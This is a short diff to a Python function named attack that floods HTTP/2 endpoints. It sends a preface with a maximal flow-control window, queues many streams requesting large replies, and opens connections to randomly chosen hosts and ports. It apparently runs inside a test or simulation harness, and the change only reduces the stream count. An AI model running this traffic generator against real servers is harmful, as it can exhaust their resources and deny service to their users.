@@ -15,7 +15,7 @@ def attack(run):
     hosts, conns = Hosts(run, 20), {}
     wide = struct.pack(">HI", 4, 2**31 - 1)
     hello = h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0, wide) + h2.frame(h2.WINDOW, 0, 0, (2**31 - 70000).to_bytes(4, "big"))
-    hello += b"".join(call(s, reply_bytes=100000) for s in range(1, 20, 2))
+    hello += b"".join(call(s, reply_bytes=100000) for s in range(1, 8, 2))
     while run.going():
         while len(conns) < CONNECTIONS:
             host, port = hosts.rng.choice(hosts.addresses), hosts.rng.randint(1024, 65535)
